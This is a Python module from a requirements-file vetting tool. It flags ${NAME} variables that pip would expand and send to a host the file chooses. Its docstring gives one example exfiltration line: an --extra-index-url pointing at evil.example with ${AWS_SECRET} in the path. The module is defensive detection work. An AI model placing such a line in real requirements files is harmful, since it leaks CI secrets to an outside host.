"""Which ``${NAME}`` references in a requirements file pip would send to a host the file chose.

pip fills in ``${NAME}`` from its environment on every line of a requirements file, includes
and option lines too. That is how a team keeps an index token out of the file
(``--extra-index-url https://${TOKEN}@pypi.acme.example/simple``), and how a pull request's
file can send a CI job's secret anywhere (``--extra-index-url https://evil.example/${AWS_SECRET}``):
pip asks that host for packages while it resolves, before pipvet has vetted anything.

So, in a file pipvet hands to pip, a variable is accepted only where its value cannot choose
the host or travel to a host the file chose: the whole value of an option (the value is the
user's), a token that is no URL (a path, a version), or the userinfo of a URL whose host a
setting outside the files names (pip's configuration, ``PIP_*`` variables, the command line).
Pure: text in, problems out.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterable

from pipvet.inputs.requirements_model import RequirementsFile

__all__ = ["DEFAULT_HOSTS", "host_of", "unsafe_variables"]

# Where pip goes with no configuration at all.
DEFAULT_HOSTS = frozenset({"pypi.org", "files.pythonhosted.org"})

_VARIABLE = re.compile(r"\$\{[A-Z0-9_]+\}")  # what pip expands (its own pattern)
_WHOLE = re.compile(r"^\$\{[A-Z0-9_]+\}$")
_URL = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*://([^/?#]*)(.*)$", re.DOTALL)


def host_of(url: str) -> str | None:
    """The lower-cased host of a ``scheme://`` URL (no userinfo, no port); None otherwise."""
    found = _URL.match(url.strip())
    if found is None:
        return None
    host = found.group(1).rpartition("@")[2]
    if host.startswith("["):  # an IPv6 literal keeps its colons
        return host.partition("]")[0].lstrip("[").lower() or None
    return host.partition(":")[0].lower() or None


def _problem(token: str, trusted: Collection[str]) -> str | None:
    """Why pip could send a variable of ``token`` to a host the file chose, else None."""
    value = token.partition("=")[2] if token.startswith("-") and "=" in token else token
    if _VARIABLE.search(value) is None or _WHOLE.match(value):
        return None  # the whole value is the user's own setting
    found = _URL.match(value)
    if found is None:
        if ":" not in value:
            return None  # a path or a version: pip sends it nowhere
        return "the variable is part of a value pip may read as an address"
    if value[:7].lower() == "file://":
        return None  # a local path: pip reads it, and sends it nowhere
    authority, rest = found.group(1), found.group(2)
    if _VARIABLE.search(authority.rpartition("@")[2]):
        return "the variable chooses the host pip connects to"
    host = host_of(value)
    if _VARIABLE.search(rest):
        return f"pip would send the variable's value to {host} in the URL's path"
    if host not in trusted:
        return (
            f"pip would send the variable's value to {host} as a credential, and no setting "
            "outside the requirements files names that host"
        )
    return None


def unsafe_variables(parsed: RequirementsFile, trusted_hosts: Iterable[str]) -> tuple[str, ...]:
    """One message per line of ``parsed`` (a file pipvet hands to pip, with its includes)
    where pip would send the value of a ``${NAME}`` to a host the file chose."""
    trusted = {h.lower() for h in trusted_hosts} | DEFAULT_HOSTS
    problems: list[str] = []
    lines = [(o.location, o.raw) for o in parsed.options]
    lines += [(e.location, e.raw) for e in parsed.entries]
    # A line with two options is two OptionLines with the same text: one problem.
    unique = dict.fromkeys(lines)
    for location, raw in sorted(unique, key=lambda item: (item[0].path, item[0].line or 0)):
        if _VARIABLE.search(raw) is None:
            continue
        for token in raw.split():
            if _VARIABLE.search(token) is None:
                continue
            why = _problem(token, trusted)
            if why is not None:
                names = ", ".join(dict.fromkeys(_VARIABLE.findall(token)))
                problems.append(f"{location}: '{raw.strip()}': {why} ({names})")
                break
    return tuple(problems)
